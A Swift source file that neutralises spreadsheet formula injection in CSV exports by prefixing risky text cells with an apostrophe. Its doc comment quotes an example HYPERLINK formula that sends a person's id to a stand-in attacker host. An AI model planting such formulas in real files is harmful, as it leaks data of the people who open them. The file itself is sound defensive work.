/// A cell of a CSV file that people open in a spreadsheet (reports, match reports, lists).
///
/// Text a partner, a file or a member of staff wrote may begin with `=`, `+`, `-`, `@`, a tab
/// or a carriage return, which Excel, LibreOffice and Sheets take for the start of a formula: a
/// member number `=HYPERLINK("http://evil.example/?id="&C2,"click")` beside a person id would
/// send that id away at a click. Every such text cell gets a leading `'` (OWASP's rule), which a
/// spreadsheet shows as text and hides, and a program reading the file can strip.
///
/// Figures Kyosei computed itself (counts, shares, scores, a difference below zero) are
/// `computed` and written as they are: no outside text reaches them, and `'-3` would make a
/// count into text that no sum adds up.
public enum SpreadsheetCell: Sendable, Equatable {
    case text(String)
    case computed(String)

    /// The characters that open a formula when they begin a cell.
    static let formulaStarts: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]
    static let formulaStartBytes = formulaStarts.map { UInt8($0.value) }

    /// `text` as a spreadsheet will show it as text: with a leading `'` when it begins a formula.
    public static func neutralised(_ text: String) -> String {
        guard let first = text.unicodeScalars.first, formulaStarts.contains(first) else { return text }
        return "'" + text
    }

    /// The cell's value as it goes into the file, before RFC 4180 quoting.
    public var value: String {
        switch self {
        case .text(let text): Self.neutralised(text)
        case .computed(let figure): figure
        }
    }
}

extension CSVWriter {
    /// One record of a file for people, every text cell neutralised, without its line ending.
    public static func record(cells: [SpreadsheetCell]) -> String {
        var bytes: [UInt8] = []
        append(cells: cells, to: &bytes)
        return String(decoding: bytes, as: UTF8.self)
    }

    /// `record(cells:)` appended to `bytes`, without a string made for each cell on the way.
    public static func append(cells: [SpreadsheetCell], to bytes: inout [UInt8]) {
        appendRecord(count: cells.count, isEmpty: cells.count == 1 && cells[0].value.isEmpty, to: &bytes) { i, bytes in
            switch cells[i] {
            case .text(var text):
                text.withUTF8 { append(text: $0, to: &bytes) }
            case .computed(let figure):
                append(field: figure, to: &bytes)
            }
        }
    }

    /// A text cell given as UTF-8, neutralised and appended as `append(cells:to:)` appends one.
    public static func append(text: UnsafeBufferPointer<UInt8>, to bytes: inout [UInt8]) {
        // A formula start is one ASCII byte, and no other scalar's UTF-8 begins with one.
        let opensFormula = text.first.map { SpreadsheetCell.formulaStartBytes.contains($0) } ?? false
        append(field: text, lead: opensFormula ? UInt8(ascii: "'") : nil, to: &bytes)
    }
}
